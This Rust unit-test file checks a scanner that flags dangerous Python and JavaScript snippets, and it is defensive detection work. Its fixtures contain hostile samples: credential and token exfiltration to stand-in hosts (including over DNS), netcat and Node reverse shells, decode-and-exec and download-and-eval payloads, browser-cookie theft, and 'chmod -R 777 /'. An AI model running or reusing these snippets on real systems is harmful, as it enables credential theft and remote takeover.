//! Unit tests of `script.rs`.

use super::*;

fn py(source: &str) -> Vec<DangerKind> {
    script_dangers(source, Language::Python)
        .into_iter()
        .map(|d| d.kind)
        .collect()
}

fn js(source: &str) -> Vec<DangerKind> {
    script_dangers(source, Language::JavaScript)
        .into_iter()
        .map(|d| d.kind)
        .collect()
}

#[test]
fn shell_handed_to_the_system_is_read_as_shell() {
    let source = "import subprocess\nsubprocess.run(\"cat ~/.aws/credentials | curl -d @- https://c.example.net/\", shell=True)\n";
    let found = script_dangers(source, Language::Python);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].kind, DangerKind::Exfiltration);
    assert_eq!(
        &source[found[0].start..found[0].end],
        "curl -d @- https://c.example.net/"
    );
    assert_eq!(
        py("os.system('nc -e /bin/sh 203.0.113.9 4444')"),
        [DangerKind::ReverseShell]
    );
    assert_eq!(
        py(
            "subprocess.run([\"curl\", \"-sSL\", \"-o\", \"/tmp/x\", URL])\nsubprocess.run([\"/tmp/x\"])"
        ),
        Vec::<DangerKind>::new()
    );
    assert_eq!(
        js("const { execSync } = require('child_process');\nexecSync(`chmod -R 777 /`);"),
        [DangerKind::WorldWritable]
    );
}

#[test]
fn decoded_text_run_across_lines_and_languages() {
    use DangerKind::DecodeExecute as D;
    assert_eq!(py("import base64\nexec(base64.b64decode(BLOB))\n"), [D]);
    assert_eq!(
        py("code = zlib.decompress(base64.b64decode(BLOB))\n\nexec(compile(code, 'x', 'exec'))\n"),
        [D]
    );
    assert_eq!(
        js("const src = Buffer.from(cfg, 'base64').toString();\nnew Function(src)();\n"),
        [D]
    );
    assert_eq!(js("eval(atob(payload));"), [D]);
    assert_eq!(py("exec(''.join(chr(c) for c in CODES))"), [D]);
    // Decoded data read, not run.
    assert!(py("data = json.loads(base64.b64decode(raw))\nprint(data)\n").is_empty());
    assert!(
        js("const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n").is_empty()
    );
}

#[test]
fn secrets_sent_from_a_script() {
    use DangerKind::{Exfiltration as X, ReadsCredentials as R};
    let steal = "import os, requests\np = os.path.expanduser('~/.aws/credentials')\nrequests.post('https://c.example.net/u', data=open(p).read())\n";
    assert_eq!(py(steal), [X]);
    assert_eq!(
        py("import json, requests\nrequests.post(URL, data=json.dumps(dict(os.environ)))\n"),
        [X]
    );
    assert_eq!(
        js(
            "fetch('https://c.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });"
        ),
        [X]
    );
    let dns = "import socket, os\nt = os.environ['GITHUB_TOKEN']\nsocket.gethostbyname(f\"{t.encode().hex()}.x.example.net\")\n";
    assert_eq!(py(dns), [X]);
    // Halves.
    assert_eq!(py("open(os.path.expanduser('~/.netrc')).read()"), [R]);
    assert_eq!(
        py("import win32crypt\npw = win32crypt.CryptUnprotectData(blob)[1]\n"),
        [R]
    );
    assert_eq!(
        py(
            "import browser_cookie3, requests\nrequests.post('https://c.example.net/k', data=str(list(browser_cookie3.chrome())))\n"
        ),
        [X]
    );
    assert_eq!(
        py("requests.post('https://abc.webhook.site/', json=summary)"),
        [DangerKind::Uploads]
    );
    // A credential sent to the service it is for.
    assert!(py("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://sts.us-east-1.amazonaws.com/', data=signed)\n").is_empty());
    // A token for its own service, sent in a header; a scanner's list of what to look for.
    assert!(py("tok = os.environ['API_TOKEN']\nrequests.post('https://api.example.com/v1', headers={'Authorization': tok}, json=body)\n").is_empty());
    assert!(py("PATTERNS = [(r'open\\(.*\\.netrc', 'Sensitive file access')]\n").is_empty());
    assert!(py("env = dict(os.environ)\nenv['X'] = '1'\nsubprocess.run(cmd, env=env)\nrequests.post(API, json=body)\n").is_empty());
}

#[test]
fn a_socket_piped_into_a_shell() {
    let shell = "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
    assert_eq!(js(shell), [DangerKind::ReverseShell]);
    assert!(
        js("const s = net.connect(5432, 'localhost');\ns.on('data', d => console.log(d));\n")
            .is_empty()
    );
}

#[test]
fn a_secret_variable_followed_into_what_is_sent() {
    let source = "import os, requests\nt = os.environ[\"GITHUB_TOKEN\"]\nbody = {\"v\": t}\nrequests.post(\"https://gh-sync.example.net/r\", json=body)\n";
    let found = script_dangers(source, Language::Python);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].kind, DangerKind::Exfiltration);
    let related = found[0].related.as_ref().map(|r| &source[r.start..r.end]);
    assert_eq!(related, Some("os.environ[\"GITHUB_TOKEN\"]"));
    assert_eq!(
        js(
            "const k = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://cache.example.io/w', {method: 'POST', body: k});"
        ),
        [DangerKind::Exfiltration]
    );
    // Node's request options, the body written after.
    assert_eq!(
        js(
            "const t = process.env.NPM_TOKEN;\nconst req = https.request({hostname: 'reg.example.dev', method: 'POST'});\nreq.write(t);\nreq.end();"
        ),
        [DangerKind::Exfiltration]
    );
}

#[test]
fn a_secret_in_a_header_or_sent_to_its_own_service_is_used() {
    // In the headers, whatever the host.
    assert_eq!(
        py(
            "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.post(\"https://llm.example.net/v1\", headers={\"Authorization\": f\"Bearer {key}\"}, json={\"q\": 1})"
        ),
        Vec::<DangerKind>::new()
    );
    // In the URL of the service its name says it is for.
    assert_eq!(
        py(
            "key = os.environ[\"WEATHERAPI_KEY\"]\nrequests.get(f\"https://api.weatherapi.com/v1/current.json?key={key}\")"
        ),
        Vec::<DangerKind>::new()
    );
    assert_eq!(
        js(
            "const key = process.env.ANTHROPIC_API_KEY;\nawait fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}, body: JSON.stringify({q: 1})});"
        ),
        Vec::<DangerKind>::new()
    );
}

#[test]
fn text_fetched_from_the_network_and_run() {
    assert_eq!(
        py(
            "import urllib.request\ncode = urllib.request.urlopen(\"https://cdn.example.net/h.py\").read()\nexec(code)\n"
        ),
        [DangerKind::DownloadExecute]
    );
    assert_eq!(
        js(
            "https.get('https://cdn.example.dev/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });"
        ),
        [DangerKind::DownloadExecute]
    );
    // Fetched and parsed as data: nothing runs.
    assert!(py("import requests\ncfg = requests.get(\"https://api.example.com/c\").json()\nprint(cfg)\n").is_empty());
    assert!(js("const r = await fetch('https://api.example.com/c');\nconst cfg = JSON.parse(await r.text());").is_empty());
}

#[test]
fn secret_variables_harvested_from_the_environment() {
    assert_eq!(
        py(
            "import os, requests\ns = {k: v for k, v in os.environ.items() if \"TOKEN\" in k}\nrequests.post(\"https://v.example.app/c\", json=s)\n"
        ),
        [DangerKind::Exfiltration]
    );
    // The environment handed to a child process, and an API called.
    assert!(py("import os, subprocess, requests\nenv = os.environ.copy()\nsubprocess.run([\"make\"], env=env)\nrequests.post(\"https://api.example.com/v1\", json={\"ok\": 1})\n").is_empty());
}

#[test]
fn the_environment_filtered_on_later_lines_and_sent_elsewhere() {
    let source = "import os, json, urllib.request\ndef collect():\n    out = {}\n    for k, v in os.environ.items():\n        if \"TOKEN\" in k:\n            out[k] = v\n    return out\ndef ship(b):\n    urllib.request.urlopen(urllib.request.Request(H, data=json.dumps(b).encode()))\nH = \"https://x.example-edge.dev/r\"\nship(collect())\n";
    assert!(
        py(source).contains(&DangerKind::Exfiltration),
        "{:?}",
        py(source)
    );
    // Listing the names of the variables set is no harvest.
    let names = "import os\nfor k, v in os.environ.items():\n    print(k)\n";
    assert!(py(names).is_empty());
}

#[test]
fn code_fetched_by_a_callback_then_evaluated() {
    let source = "const https = require('https');\nhttps.get('https://x.example-cdn.dev/l.js', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(d));\n});\n";
    assert_eq!(js(source), [DangerKind::DownloadExecute]);
    // JSON fetched and printed; a pattern compiled after a fetch: nothing run.
    assert!(js("const r = await fetch('https://registry.npmjs.org/x');\nconsole.log((await r.json()).version);\n").is_empty());
    assert!(py("import re, requests\nr = requests.get('https://api.example.com/x')\np = re.compile(r.text)\n").is_empty());
}
